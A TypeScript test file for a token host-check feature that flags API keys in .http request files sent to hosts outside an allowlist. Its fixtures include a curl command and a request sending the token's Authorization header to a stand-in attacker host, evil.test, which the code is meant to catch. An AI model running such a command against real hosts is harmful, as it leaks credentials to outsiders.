import assert from 'node:assert/strict';
import { checkFile, checkUse, type HostCheckContext } from '../../../src/requestFiles/hostCheck';
import { formatVariableReference, getVariableName } from '../../../src/requestFiles/keyReferences';
import { findRequestUses, type ClientSyntax } from '../../../src/requestFiles/requestUses';
import { allowOrigins, NO_ALLOWED_HOSTS } from '../../support/hostChecks';
import { createAccountSource, createSourceToken } from '../../support/sourceTokens';

const FILE = 'file:///requests.http';
const TOKEN = createSourceToken();
const VARIABLE = getVariableName(TOKEN.token.id);
const request = (url: string) => `GET ${url}\nAuthorization: ApiKey ${formatVariableReference(TOKEN.token.id)}\n`;

function checkFirst(text: string, context: HostCheckContext, file = FILE): string {
	const [use] = findRequestUses(text, 'requestFile').requests;
	return checkUse(use!, VARIABLE, TOKEN, file, context).kind;
}

describe('checkUse', () => {
	/** For httpYac, another request's variable isn't defined. */
	const text = `${request('https://{{host}}/x')}\n###\n@host = api.test\nGET https://api.test/\n`;
	const allowed = allowOrigins(['https://api.test']);

	for (const [clients, kind] of [
		[['restClient'], 'allowed'],
		[['httpYac'], 'unknown'],
		[['restClient', 'httpYac'], 'unknown'],
		[[], 'unknown'],
	] as [ClientSyntax[], string][]) {
		it(`is ${kind} if ${clients.join(' and ') || 'none of the clients that send the request'} may send it`, () => {
			assert.equal(checkFirst(text, { ...allowed, clients }), kind);
		});
	}

	it('counts all clients if only one is installed that does not send the request', () => {
		const curl = `curl https://evil.test/ -H "Authorization: ${formatVariableReference(TOKEN.token.id)}"\n`;
		assert.equal(checkFirst(curl, { ...allowed, clients: ['httpYac'] }), 'foreign');
	});

	it('uses what is allowed for the token and the file', () => {
		assert.equal(checkFirst(request('https://api.test/'), allowed), 'allowed');
		assert.equal(checkFirst(request('https://api.test/'), allowOrigins(['https://api.test'], 'SU-000-000-001')), 'foreign');
		assert.equal(checkFirst(request('https://api.test/'), allowOrigins(['https://api.test'], TOKEN.token.id, 'VA-1')), 'foreign');
		const context = { ...NO_ALLOWED_HOSTS, hosts: { workspace: { [TOKEN.token.id]: { origins: [], files: [FILE] } } } };
		assert.equal(checkFirst(request('{{url}}'), context), 'allowed');
		assert.equal(checkFirst(request('{{url}}'), context, 'file:///other.http'), 'unknown');
		assert.equal(checkFirst(request('https://api.test/'), context), 'foreign');
	});
});

describe('checkFile', () => {
	const { requests } = findRequestUses(`${request('http://localhost:3000/')}\n###\n${request('https://evil.test/')}`, 'requestFile');
	const tokens = new Map([[VARIABLE, TOKEN]]);

	it('is the worst verdict about the requests that use the token', () => {
		assert.equal(checkFile(requests, TOKEN, tokens, FILE, NO_ALLOWED_HOSTS)?.kind, 'foreign');
		assert.equal(checkFile(requests.slice(0, 1), TOKEN, tokens, FILE, NO_ALLOWED_HOSTS)?.kind, 'allowed');
	});

	it('is undefined if no request uses the token', () => {
		const other = createSourceToken({}, createAccountSource());
		assert.equal(checkFile(requests, other, tokens, FILE, NO_ALLOWED_HOSTS), undefined);
		assert.equal(checkFile([], TOKEN, tokens, FILE, NO_ALLOWED_HOSTS), undefined);
	});
});
